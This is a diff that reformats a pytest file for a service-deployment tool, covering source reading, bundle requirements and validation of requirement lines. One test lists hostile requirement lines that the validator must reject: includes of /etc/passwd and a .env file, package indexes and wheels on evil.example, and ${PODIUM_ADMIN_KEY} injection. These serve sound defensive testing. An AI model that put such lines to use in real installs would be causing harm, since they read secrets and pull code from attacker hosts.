@@ -15,7 +15,7 @@ from podium.errors import BundleError, ServiceDefinitionError
 from podium.sdk.discovery import find_service
 from podium.source import read_service, route_shape
 
-SERVICE = '''
+SERVICE = """
 import podium
 
 LIMIT = 3
@@ -35,7 +35,7 @@ def count(n: int):
 @init.endpoint("/later")
 async def later(a, b=None):
     return a
-'''
+"""
 
 
 def _imported(source: str) -> object:
@@ -44,15 +44,18 @@ def _imported(source: str) -> object:
     return find_service(vars(module))
 
 
-@pytest.mark.parametrize("source", [
-    SERVICE,
-    "import podium\n\n@podium.handler(max_workers=2)\ndef handle(job):\n    return job['input']\n",
-    "def handler(job):\n    yield job['input']\n",
-    "from podium import service\n\n@service\ndef my_init():\n    pass\n\n@my_init.endpoint('/a')\ndef a(x, y=[1, 2]):\n    return x\n",
-    "from flask import Flask\n\napp = Flask(__name__)\n",
-    "import fastapi\n\napi = fastapi.FastAPI()\n",
-    "async def app(scope, receive, send):\n    pass\n",
-])
+@pytest.mark.parametrize(
+    "source",
+    [
+        SERVICE,
+        "import podium\n\n@podium.handler(max_workers=2)\ndef handle(job):\n    return job['input']\n",
+        "def handler(job):\n    yield job['input']\n",
+        "from podium import service\n\n@service\ndef my_init():\n    pass\n\n@my_init.endpoint('/a')\ndef a(x, y=[1, 2]):\n    return x\n",
+        "from flask import Flask\n\napp = Flask(__name__)\n",
+        "import fastapi\n\napi = fastapi.FastAPI()\n",
+        "async def app(scope, receive, send):\n    pass\n",
+    ],
+)
 def test_a_service_read_from_source_has_the_shape_of_the_imported_one(source):
     found = read_service(source, module="svc_under_test")
     svc = _imported(source)
@@ -75,7 +78,8 @@ def test_a_setting_that_is_not_a_literal_is_a_clear_error():
 
 
 def test_deploy_reads_a_service_whose_dependency_is_missing_here(tmp_path: Path):
-    (tmp_path / "app.py").write_text(textwrap.dedent('''
+    (tmp_path / "app.py").write_text(
+        textwrap.dedent("""
         import not_installed_anywhere_podium
         import podium
 
@@ -86,7 +90,8 @@ def test_deploy_reads_a_service_whose_dependency_is_missing_here(tmp_path: Path)
         @init.endpoint("/v")
         def v():
             return not_installed_anywhere_podium.VERSION
-    '''))
+    """)
+    )
     (tmp_path / "requirements.txt").write_text("# pinned\nnot-installed-anywhere-podium==1.0  # the one\n\n")
     version = describe(make_bundle(tmp_path))
     assert version["service"] == "needs"
@@ -108,25 +113,44 @@ def test_pyproject_dependencies_and_decorator_requirements_merge(tmp_path: Path)
     assert version["requirements"] == {"packages": ["a==1", "b>=2", "numpy==2.1"], "python": "3.11"}
 
 
-@pytest.mark.parametrize(("packages", "python", "message"), [
-    (("podium==1.0",), None, "do not list podium"),
-    (("Podium[dev]>=0",), None, "do not list podium"),
-    (("a\nb",), None, "one non-empty line"),
-    ((), "3.10", "too old"),
-    ((), "three", "version like"),
-])
+@pytest.mark.parametrize(
+    ("packages", "python", "message"),
+    [
+        (("podium==1.0",), None, "do not list podium"),
+        (("Podium[dev]>=0",), None, "do not list podium"),
+        (("a\nb",), None, "one non-empty line"),
+        ((), "3.10", "too old"),
+        ((), "three", "version like"),
+    ],
+)
 def test_bad_requirement_sets_are_refused(packages, python, message):
     with pytest.raises(ValueError, match=message):
         Requirements(packages, python)
 
 
-@pytest.mark.parametrize("line", [
-    "-r /srv/podium/.env", "--requirement=/etc/passwd", "-c /etc/passwd", "--index-url https://evil.example/simple",
-    "-i https://evil.example/simple", "--extra-index-url https://evil.example/simple", "--find-links /tmp/wheels",
-    "-f /tmp", "-e /srv/dir", "--editable=git+https://evil.example/x.git", "./local/dir", "/abs/pkg.whl",
-    "https://evil.example/pkg-1.0.whl", "pkg @ https://evil.example/pkg-1.0.whl", "pkg @ file:///srv/pkg",
-    "pkg==1.0 --hash=sha256:00", "pkg===${PODIUM_ADMIN_KEY}", "pkg; python_version >= '${HOME}'",
-])
+@pytest.mark.parametrize(
+    "line",
+    [
+        "-r /srv/podium/.env",
+        "--requirement=/etc/passwd",
+        "-c /etc/passwd",
+        "--index-url https://evil.example/simple",
+        "-i https://evil.example/simple",
+        "--extra-index-url https://evil.example/simple",
+        "--find-links /tmp/wheels",
+        "-f /tmp",
+        "-e /srv/dir",
+        "--editable=git+https://evil.example/x.git",
+        "./local/dir",
+        "/abs/pkg.whl",
+        "https://evil.example/pkg-1.0.whl",
+        "pkg @ https://evil.example/pkg-1.0.whl",
+        "pkg @ file:///srv/pkg",
+        "pkg==1.0 --hash=sha256:00",
+        "pkg===${PODIUM_ADMIN_KEY}",
+        "pkg; python_version >= '${HOME}'",
+    ],
+)
 def test_only_pep508_requirements_of_the_index_are_accepted(line):
     """Issue 22, finding 6: option lines and URLs reached uv verbatim (`-r /path/.env` put a
     server file's first line into the build error). Each is refused, the line named."""
@@ -135,10 +159,17 @@ def test_only_pep508_requirements_of_the_index_are_accepted(line):
     assert repr(line) in str(caught.value)
 
 
-@pytest.mark.parametrize("line", [
-    "numpy", "numpy>=1.2,<2", "requests[socks]==2.31; python_version >= '3.8'", "Foo_Bar.baz~=1.0",
-    "torch==2.1.0+cpu", "pkg ; sys_platform == 'linux'",
-])
+@pytest.mark.parametrize(
+    "line",
+    [
+        "numpy",
+        "numpy>=1.2,<2",
+        "requests[socks]==2.31; python_version >= '3.8'",
+        "Foo_Bar.baz~=1.0",
+        "torch==2.1.0+cpu",
+        "pkg ; sys_platform == 'linux'",
+    ],
+)
 def test_pep508_requirements_are_accepted(line):
     assert Requirements((line,)).checked().packages == (line,)
 
